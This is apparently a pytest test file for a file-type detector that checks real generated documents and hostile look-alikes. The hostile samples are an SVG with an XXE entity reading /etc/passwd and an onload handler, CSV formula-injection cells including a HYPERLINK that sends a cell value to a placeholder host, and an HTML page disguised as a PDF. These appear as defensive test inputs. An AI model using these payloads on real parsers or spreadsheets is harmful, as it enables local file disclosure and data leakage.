"""Media types from content: real files made by the real libraries, plus hostile look-alikes."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from promptkiln.sandbox.filetypes import (
    DOCX,
    HEAD_BYTES,
    OCTET,
    PPTX,
    XLSM,
    XLSX,
    ZIP,
    detect,
    detect_file,
)


def _pdf(path: Path) -> None:
    from reportlab.pdfgen import canvas

    c = canvas.Canvas(str(path))
    c.drawString(72, 720, "Q1 sales report")
    c.save()


def _mpl(fmt: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        import matplotlib

        matplotlib.use("Agg")
        import matplotlib.pyplot as plt

        fig, ax = plt.subplots(figsize=(2, 2))
        ax.bar(["a", "b"], [1, 2])
        fig.savefig(path, format=fmt)
        plt.close(fig)

    return make


def _pil(fmt: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        from PIL import Image

        Image.new("RGB", (8, 8), (200, 10, 10)).save(path, format=fmt)

    return make


def _xlsx(path: Path) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["region", "sales"])
    wb.save(path)


def _docx(path: Path) -> None:
    from docx import Document

    doc = Document()
    doc.add_paragraph("Memo")
    doc.save(str(path))


def _pptx(path: Path) -> None:
    from pptx import Presentation

    prs = Presentation()
    prs.slides.add_slide(prs.slide_layouts[0]).shapes.title.text = "Deck"
    prs.save(str(path))


def _zip(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("a.txt", "hello")


def _xlsm(path: Path) -> None:
    _xlsx(path)
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really")


def _odt(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        zf.writestr("content.xml", "<office:document-content/>")


def _text(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


REAL_FILES: list[tuple[str, Callable[[Path], None], str]] = [
    ("report.pdf", _pdf, "application/pdf"),
    ("chart.png", _mpl("png"), "image/png"),
    ("chart.svg", _mpl("svg"), "image/svg+xml"),
    ("chart.jpg", _mpl("jpg"), "image/jpeg"),
    ("chart.pdf", _mpl("pdf"), "application/pdf"),
    ("pic.gif", _pil("GIF"), "image/gif"),
    ("pic.webp", _pil("WEBP"), "image/webp"),
    ("pic.tiff", _pil("TIFF"), "image/tiff"),
    ("sales.xlsx", _xlsx, XLSX),
    ("memo.docx", _docx, DOCX),
    ("deck.pptx", _pptx, PPTX),
    ("bundle.zip", _zip, ZIP),
    ("macro.xlsx", _xlsm, XLSM),
    ("doc.odt", _odt, "application/vnd.oasis.opendocument.text"),
    ("data.json", _text(json.dumps({"a": [1, 2, {"b": None}]}).encode()), "application/json"),
    ("rows.jsonl", _text(b'{"a": 1}\n{"a": 2}\n'), "application/x-ndjson"),
    ("data.csv", _text(b'name,amount\n"Smith, J",100\nLee,200\n'), "text/csv"),
    ("data.tsv", _text(b"name\tamount\nSmith\t100\nLee\t200\n"), "text/tab-separated-values"),
    ("semi.csv", _text(b"a;b;c\n1;2;3\n"), "text/csv"),
    ("page.html", _text(b"<!DOCTYPE html>\n<html><body>hi</body></html>"), "text/html"),
    ("frag.html", _text(b"<div>x</div><body>y</body>"), "text/html"),
    ("notes.txt", _text("résumé 报告\nline two, with a comma\n".encode()), "text/plain"),
    ("notes.md", _text(b"# Title\n\nSome *text*.\n"), "text/markdown"),
    ("data.xml", _text(b'<?xml version="1.0"?><root><a/></root>'), "application/xml"),
    ("blob.bin", _text(bytes(range(256)) * 4), OCTET),
    ("empty.txt", _text(b""), OCTET),
    ("latin1.txt", _text("café".encode("latin-1")), OCTET),
    ("db.sqlite", _text(b"SQLite format 3\x00" + bytes(100)), "application/vnd.sqlite3"),
    # out_15: the extension lies; the content decides
    (
        "invoice.pdf",
        _text(b"<!doctype html><title>Report</title><script>x()</script>"),
        "text/html",
    ),
    (
        "xxe.svg",
        _text(
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>&xxe;</text></svg>'
        ),
        "image/svg+xml",
    ),
    ("junk-then.pdf", _text(b"\n\n   %PDF-1.4\n%%EOF\n"), "application/pdf"),
    (
        "injection.csv",  # out_15: formula injection is still CSV (flagging it is not our job)
        _text(
            b'name,amount,note\nAlice,100,"=HYPERLINK(""https://example.invalid/?l=""&B2,""x"")"\n'
            b'Bob,+1+1,@SUM(1+1)\nCarol,-2+3,"\t=1+1"\n'
        ),
        "text/csv",
    ),
]


@pytest.mark.parametrize(("name", "make", "expected"), REAL_FILES, ids=[r[0] for r in REAL_FILES])
def test_detect_file_real_files(
    tmp_path: Path, name: str, make: Callable[[Path], None], expected: str
) -> None:
    path = tmp_path / name
    make(path)
    with path.open("rb") as f:
        assert detect_file(f, name) == expected
    data = path.read_bytes()
    assert detect(data, name) == expected


def test_detect_from_a_head_only() -> None:
    # A ZIP head without its central directory is only known to be a ZIP.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("xl/workbook.xml", "x" * 10_000)
        zf.writestr("[Content_Types].xml", "<Types/>")
    assert detect(buf.getvalue()[:200]) == ZIP
    assert detect(buf.getvalue()) == XLSX
    # JSON is recognised by its bracket when it does not fit.
    big = json.dumps([{"k": "v" * 10}] * 20_000).encode()
    assert len(big) > HEAD_BYTES
    assert detect_file(io.BytesIO(big), "x.json") == "application/json"


def test_head_cut_inside_a_utf8_character_is_still_text() -> None:
    data = ("é" * HEAD_BYTES).encode()  # two bytes each: the head ends mid-file
    assert detect_file(io.BytesIO(data), "a.txt") == "text/plain"
    assert detect(data[:-1]) == OCTET  # the whole content really is invalid


def test_large_text_over_whole_limit_uses_the_head() -> None:
    data = b"a,b\n" + b"1,2\n" * 2_000_000
    assert detect_file(io.BytesIO(data), "big.csv") == "text/csv"


def test_damaged_zip_is_a_plain_zip() -> None:
    data = b"PK\x03\x04" + b"\x00" * 100
    assert detect(data) == ZIP
    assert detect_file(io.BytesIO(data)) == ZIP


def test_odf_mimetype_must_be_known() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("mimetype", "application/x-evil")
    assert detect(buf.getvalue()) == ZIP


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"\x89PNG\r\n\x1a\n", "image/png"),
        (b"GIF89a", "image/gif"),
        (b"RIFF\x00\x00\x00\x00WEBPVP8 ", "image/webp"),
        (b"RIFF\x00\x00\x00\x00WAVEfmt ", "audio/wav"),
        (b"\xef\xbb\xbf<svg></svg>", "image/svg+xml"),
        (b"<!-- c --><svg:svg xmlns:svg='x'/>", "image/svg+xml"),
        (b"<html>", "text/html"),
        (b"{not json", "text/plain"),
        (b"[1, 2", "text/plain"),
        (b"a\x00b", OCTET),
        (b"\x1b[31mred\x1b[0m" * 2, OCTET),
        (b"one line, with, commas\n", "text/plain"),
        (b"a,b\n1,2,3\n", "text/plain"),
    ],
)
def test_detect_table(data: bytes, expected: str) -> None:
    assert detect(data) == expected
